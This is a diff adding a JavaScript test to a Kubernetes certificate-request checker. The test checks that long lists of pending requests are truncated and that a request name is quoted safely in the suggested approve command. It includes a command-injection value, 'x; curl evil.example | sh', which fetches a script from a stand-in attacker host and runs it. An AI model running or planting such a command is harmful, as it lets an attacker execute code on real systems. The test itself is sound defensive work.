@@ -95,3 +95,12 @@ test('a serving certificate that a kubelet waits for is told with the reason of 
   const later = request('csr-2', 'w1', '2026-01-01T00:30:00Z', 'a certificate');
   expect(problems({ requests: [later, request('csr-1', 'w1', long)] })).toEqual([]);
 });
+
+test('who makes a hundred requests does not fill the screen, and the name of one becomes no command', () => {
+  const many = Array.from({ length: 100 }, (_, index) => request(`csr-${index}`, `w${index}`, long));
+  const found = problems({ requests: many });
+  expect(found).toHaveLength(6);
+  expect(found.at(-1)).toEqual(refused('kubelet-certificate', '95 other'));
+  const hostile = problems({ requests: [request('x; curl evil.example | sh', 'w1', long)] });
+  expect(hostile).toEqual([refused('kubelet-certificate', "approve 'x; curl evil.example | sh'")]);
+});
